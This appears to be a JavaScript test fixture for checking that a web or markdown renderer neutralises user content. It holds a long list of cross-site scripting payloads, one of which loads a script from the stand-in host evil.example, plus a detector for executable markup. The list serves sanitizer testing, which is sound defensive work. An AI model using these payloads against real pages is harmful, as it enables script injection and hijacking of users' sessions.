// Things people paste to see whether a page can be made to run them.

/** Tries that are harmless only when shown as text or stripped. Running any of them calls `alert` or sets `window.pwned`. */
export const VECTORS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.pwned=1">',
  '<img """><script>alert(1)</script>">',
  '<img src=/x onmouseover=alert(1)//',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<button popovertarget=x onbeforetoggle=alert(1)>x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">over everything</div>',
  '<template><script>alert(1)</script></template>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<p id="app"></p><form id="main"><input name="attributes"></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](https://ok.example/" onmouseover="alert(1))',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://ok.example/x.png)',
  '<javascript:alert(1)>',
  'https://ok.example/"onmouseover="alert(1)',
  'https://ok.example/?q=<script>alert(1)</script>',
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '> <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '@<img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202Ethe other way\u202C <b onmouseover=alert(1)>x</b>',
  `${'<b>'.repeat(400)}deep`,
  `${'> '.repeat(200)}deep`,
  `${'['.repeat(400)}x${'](y)'.repeat(400)}`,
  '{{constructor.constructor("alert(1)")()}}',
  // eslint-disable-next-line no-template-curly-in-string
  '${alert(1)}',
];

/** Runs in the page: what of the document could run or reach out although it came from people. */
export function dangerIn(selector) {
  const found = [];
  for (const root of document.querySelectorAll(selector)) {
    for (const element of root.querySelectorAll('*')) {
      if (/^(script|iframe|object|embed|link|meta|base|form|style|template|frame|noscript)$/i.test(element.localName)) found.push(element.outerHTML.slice(0, 120));
      for (const { name, value } of element.attributes) {
        const runs = /^on/i.test(name) || (/^(href|src|action|formaction|xlink:href|srcdoc|data)$/i.test(name) && !/^(https?:|mailto:|\/|#)/i.test(value));
        if (runs) found.push(`${element.localName} ${name}=${value}`.slice(0, 120));
      }
    }
  }
  return found;
}
